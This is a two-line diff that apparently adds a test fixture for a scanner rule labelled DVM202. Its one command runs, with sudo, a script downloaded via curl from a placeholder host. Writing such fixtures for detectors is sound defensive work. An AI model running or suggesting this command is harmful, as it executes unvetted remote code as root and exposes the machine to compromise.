@@ -1,0 +1,2 @@
+# expect: DVM202
+sudo bash -c 'bash <(curl -s https://x.example.org/a)'
